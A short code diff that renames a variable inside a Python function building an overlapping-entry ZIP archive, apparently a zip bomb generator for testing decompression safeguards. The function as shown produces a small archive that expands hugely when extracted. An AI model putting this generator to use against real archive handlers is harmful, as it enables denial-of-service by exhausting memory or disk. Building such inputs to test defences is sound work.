@@ -42,19 +42,19 @@ def overlapping_bomb(count: int = 20, unpacked_bytes: int = 2_000_000) -> io.Byt
     packed = packer.compress(content) + packer.flush()
     entries: list[tuple[int, bytes, bytes]] = []  # bytes to the end, sizes and checksum, name
     for name in reversed(names):
-        facts = struct.pack("<IIIHH", zlib.crc32(content), len(packed), len(content), len(name), 0)
-        header = b"PK\x03\x04" + struct.pack("<HHHHH", 20, 0, 8, 0, 0) + facts + name
+        metadata = struct.pack("<IIIHH", zlib.crc32(content), len(packed), len(content), len(name), 0)
+        header = b"PK\x03\x04" + struct.pack("<HHHHH", 20, 0, 8, 0, 0) + metadata + name
         body = header + packed
-        entries.append((len(body), facts, name))
+        entries.append((len(body), metadata, name))
         packed = struct.pack("<BHH", 0, len(header), len(header) ^ 0xFFFF) + body
         content = header + content
     directory = b"".join(
         b"PK\x01\x02"
         + struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 0)
-        + facts
+        + metadata
         + struct.pack("<HHHII", 0, 0, 0, 0, len(body) - to_end)
         + name
-        for to_end, facts, name in reversed(entries)
+        for to_end, metadata, name in reversed(entries)
     )
     end = struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), len(body), 0)
     return io.BytesIO(body + directory + b"PK\x05\x06" + end)
